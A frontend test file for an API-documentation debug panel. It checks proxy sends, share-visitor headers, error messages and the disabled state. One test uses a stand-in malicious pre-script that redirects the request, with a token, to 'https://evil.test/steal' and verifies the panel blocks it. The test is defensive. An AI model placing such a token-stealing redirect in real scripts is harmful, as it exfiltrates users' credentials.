import type { DebugConfig, DocDetail, Environment } from '@quire/shared';
import { builtinResources } from '@quire/shared/i18n';
import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { stubApi } from '../../../../test/api-stub.ts';
import { envelope, renderRoutes } from '../../../../test/render.tsx';
import { i18n } from '../../../lib/i18n.ts';
import type { DebugVisitor } from '../debug-visitor.ts';
import { runScript } from '../script-runner.ts';
import { DebugPanel } from './debug-panel.tsx';

// The sandbox's Web Worker does not exist in jsdom; the scripts' own behaviour is tested in packages/sandbox.
vi.mock('../script-runner.ts', () => ({
  runScript: vi.fn(async (_code: string, globals: { req: unknown; vars: Record<string, string> }) => ({
    ok: true,
    value: globals.req,
    vars: { ...globals.vars, token: 'from-script' },
    logs: [],
  })),
}));

const en = builtinResources.en as NonNullable<(typeof builtinResources)['en']>;

const DOC = {
  id: 'd1',
  moduleId: 'm1',
  projectId: 'p1',
  name: 'Create order',
  type: 0,
  url: '/orders',
  httpMethod: 'POST',
  contentType: 'application/json',
  isUseGlobalHeaders: false,
  isUseGlobalParams: false,
  isRequestArray: false,
  pathParams: [],
  headerParams: [],
  queryParams: [],
  requestParams: [
    {
      id: 'r1',
      name: 'sku',
      type: 'string',
      required: true,
      maxLength: '64',
      example: 'A-1',
      description: '',
      enumId: '',
      enumContent: '',
      children: [],
    },
  ],
  globalHeaders: [],
  globalParams: [],
} as unknown as DocDetail;

const ENV: Environment = {
  id: 'e1',
  moduleId: 'm1',
  name: 'dev',
  baseUrl: 'http://api.test/v1',
  isPublic: false,
  orderIndex: 10,
};
const CONFIG: DebugConfig = {
  docId: 'd1',
  moduleId: 'm1',
  allowDebug: true,
  proxyAvailable: true,
  proxyHosts: [],
  maxBytes: 10485760,
};

function serve(extra: Record<string, Parameters<typeof stubApi>[0][string]> = {}, config = CONFIG) {
  return stubApi({
    'GET /api/user/perm/get': () => ({ isSuperAdmin: false, roleData: {} }),
    'GET /api/doc/debug/config': () => config,
    'GET /api/doc/debug/value': () => ({ last: null, history: [] }),
    'GET /api/doc/debugscript/list': () => [],
    'POST /api/doc/debug/value/save': ({ body }) => ({
      last: (body as { value: unknown }).value,
      history: [],
    }),
    ...extra,
  });
}

function renderPanel(envs: Environment[] = [ENV], visitor?: DebugVisitor) {
  return renderRoutes([{ path: '/', element: <DebugPanel doc={DOC} envs={envs} visitor={visitor} /> }], '/');
}

const VISITOR: DebugVisitor = {
  scope: 'share:s1',
  headers: () => ({ 'X-Share-Id': 's1', 'x-share-token': 'visitor-token' }),
};

/** The headers of every call to `path` (query ignored). */
function headersOf(fetchMock: ReturnType<typeof serve>, path: string): Headers[] {
  return fetchMock.mock.calls
    .filter(([input]) => new URL(String(input), 'http://localhost').pathname === path)
    .map(([, init]) => new Headers(init?.headers));
}

describe('DebugPanel', { timeout: 20_000 }, () => {
  beforeEach(async () => {
    await i18n.changeLanguage('en');
  });
  afterEach(() => {
    vi.unstubAllGlobals();
  });

  it('links to the environment settings when the application has none', async () => {
    serve();
    renderPanel([]);
    const link = await screen.findByRole('link', { name: en.debug.noEnv });
    expect(link.getAttribute('href')).toBe('/project/doc/p1?moduleId=m1&tab=environment');
  });

  it('sends the prefilled request through the proxy with the doc id, and shows the answer', async () => {
    const fetchMock = serve({
      'POST /api/doc/debug/v1': () =>
        new Response('{"ok":true,"id":7}', {
          status: 201,
          headers: {
            'target-response-headers': JSON.stringify({ 'content-type': 'application/json', 'x-up': '1' }),
          },
        }),
    });
    renderPanel();
    const send = await screen.findByTestId('debug-send');
    // Another origin than the page: the proxy is on by default.
    expect(screen.getByRole('switch', { name: en.debug.useProxy }).getAttribute('aria-checked')).toBe('true');
    await userEvent.click(send);
    expect(await screen.findByTestId('debug-status')).toHaveProperty('textContent', '201');
    expect(screen.getByText('"ok": true,')).toBeTruthy();
    const call = fetchMock.mock.calls.find(([input]) => String(input).includes('/api/doc/debug/v1'));
    const headers = new Headers(call?.[1]?.headers);
    expect(headers.get('target-url')).toBe('http://api.test/v1/orders');
    expect(headers.get('target-doc-id')).toBe('d1');
    expect(JSON.parse(headers.get('target-headers') ?? '{}')).toEqual({ 'Content-Type': 'application/json' });
    expect(JSON.parse(String(call?.[1]?.body))).toEqual({ sku: 'A-1' });
    expect(call?.[1]?.credentials).toBe('omit');
    await waitFor(() =>
      expect(
        fetchMock.mock.calls.some(([input]) => String(input).includes('/api/doc/debug/value/save')),
      ).toBe(true),
    );
  });

  it("says 'Send failed, press F12 to see the Console' with the proxy hint when the browser refuses", async () => {
    serve({ 'POST /orders': () => Promise.reject(new TypeError('Failed to fetch')) });
    const fetchMock = vi.mocked(fetch);
    const real = fetchMock.getMockImplementation();
    fetchMock.mockImplementation(async (input, init) => {
      if (String(input).startsWith('http://api.test')) throw new TypeError('Failed to fetch');
      return real ? real(input, init) : envelope(null);
    });
    vi.spyOn(console, 'error').mockImplementation(() => undefined);
    renderPanel();
    await userEvent.click(await screen.findByRole('switch', { name: en.debug.useProxy }));
    await userEvent.click(screen.getByTestId('debug-send'));
    expect(await screen.findByText(en.debug.sendFailed)).toBeTruthy();
    expect(screen.getByText(en.debug.corsHint)).toBeTruthy();
  });

  it('refuses a pre script that moves a direct send to another origin, and sends nothing', async () => {
    const fetchMock = serve({
      'GET /api/doc/debugscript/list': () => [
        {
          id: 's1',
          name: 'sign',
          description: '',
          content: 'req.url = "https://evil.test/steal"',
          type: 0,
          scope: 1,
          enabled: true,
          refId: 'm1',
          creatorName: 'dev',
          gmtCreate: '',
        },
      ],
    });
    vi.mocked(runScript).mockImplementationOnce(async (_code, globals) => ({
      ok: true,
      value: { ...globals.req, url: 'https://evil.test/steal?token=typed' },
      vars: globals.vars,
      logs: [],
    }));
    renderPanel();
    await userEvent.click(await screen.findByRole('switch', { name: en.debug.useProxy }));
    await userEvent.click(screen.getByTestId('debug-send'));
    expect(await screen.findByText(en.debug.scriptError.replace('{0}', 'sign'))).toBeTruthy();
    expect(
      screen.getByText(
        en.debug.scriptOrigin.replace('{0}', 'https://evil.test').replace('{1}', 'http://api.test'),
      ),
    ).toBeTruthy();
    const sent = fetchMock.mock.calls.map(([input]) => String(input));
    expect(sent.some((url) => url.includes('evil.test') || url.includes('api.test'))).toBe(false);
    expect(sent.some((url) => url.includes('/api/doc/debug/v1'))).toBe(false);
  });

  it("says 'format conversion error' when the JSON body does not parse, and sends nothing", async () => {
    const fetchMock = serve();
    renderPanel();
    await userEvent.click(await screen.findByRole('tab', { name: en.debug.body }));
    const body = screen.getByRole('textbox', { name: en.debug.body });
    await userEvent.clear(body);
    await userEvent.type(body, '{{"a":');
    await userEvent.click(screen.getByTestId('debug-send'));
    expect(await screen.findByText(en.debug.formatError)).toBeTruthy();
    expect(fetchMock.mock.calls.some(([input]) => String(input).includes('/api/doc/debug/v1'))).toBe(false);
  });

  it("shows the proxy's refusal in the reader's language", async () => {
    serve({
      'POST /api/doc/debug/v1': () =>
        envelope(null, 'debug.target_outside', 'The target http://x is not under a base URL', 403),
    });
    renderPanel();
    await userEvent.click(await screen.findByTestId('debug-send'));
    expect(await screen.findByText(/The target http:\/\/x is not under a base URL/)).toBeTruthy();
  });

  it('sends as the visitor of a share: its headers on every call, nothing of a user remembered', async () => {
    const fetchMock = serve({
      'POST /api/doc/debug/v1': () =>
        new Response('{}', { status: 200, headers: { 'target-response-headers': '{}' } }),
    });
    renderPanel([ENV], VISITOR);
    await userEvent.click(await screen.findByTestId('debug-send'));
    expect(screen.queryByRole('button', { name: new RegExp(en.debug.history) })).toBeNull();
    expect(await screen.findByTestId('debug-status')).toHaveProperty('textContent', '200');
    for (const path of ['/api/doc/debug/config', '/api/doc/debugscript/list', '/api/doc/debug/v1']) {
      const sent = headersOf(fetchMock, path);
      expect(sent.length, path).toBeGreaterThan(0);
      for (const headers of sent) {
        expect(headers.get('x-share-id'), path).toBe('s1');
        expect(headers.get('x-share-token'), path).toBe('visitor-token');
      }
    }
    const calls = fetchMock.mock.calls.map(([input]) => String(input));
    expect(calls.some((url) => url.includes('/api/doc/debug/value'))).toBe(false);
  });

  it('tells a visitor the share shows no environment, without a link into the team settings', async () => {
    serve();
    renderPanel([], VISITOR);
    expect(await screen.findByText(en.debug.noEnvVisitor)).toBeTruthy();
    expect(screen.queryByRole('link', { name: en.debug.noEnv })).toBeNull();
  });

  it('hides the panel when the application does not allow debugging', async () => {
    serve({}, { ...CONFIG, allowDebug: false, proxyAvailable: false });
    renderPanel();
    expect(await screen.findByText(en.debug.disabled)).toBeTruthy();
    expect(screen.queryByTestId('debug-send')).toBeNull();
  });
});
